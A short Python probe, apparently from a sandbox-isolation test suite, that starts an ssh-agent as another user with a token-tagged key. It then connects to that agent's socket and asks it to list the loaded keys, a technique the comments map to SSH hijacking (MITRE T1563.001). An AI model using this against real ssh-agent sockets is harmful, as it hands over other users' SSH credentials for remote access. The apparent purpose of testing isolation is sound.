#!/usr/bin/python3
# tries: to list, and so to use, the keys of a running ssh agent
# works: the agent answers whoever can open its socket
# see: ssh-agent(1); MITRE ATT&CK T1563.001
# goal: read
# first: rm -f k k.pub ../sockets/agent.sock; setpriv --reuid 1000 --regid 1000 --clear-groups bash -c 'ssh-keygen -q -t ed25519 -N "" -C "$TOKEN" -f k && ssh-agent -a "$SOCKETS/agent.sock" && SSH_AUTH_SOCK="$SOCKETS/agent.sock" ssh-add -q k'; rm -f k k.pub
# undo: pid=$(pgrep -f "ssh-agent -a $SOCKETS/agent.sock"); [ -n "$pid" ] && kill $pid; rm -f "$SOCKETS/agent.sock"
import os
import socket

s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["SOCKETS"] + "/agent.sock")
s.sendall(b"\0\0\0\1\13")
print(s.recv(65536))
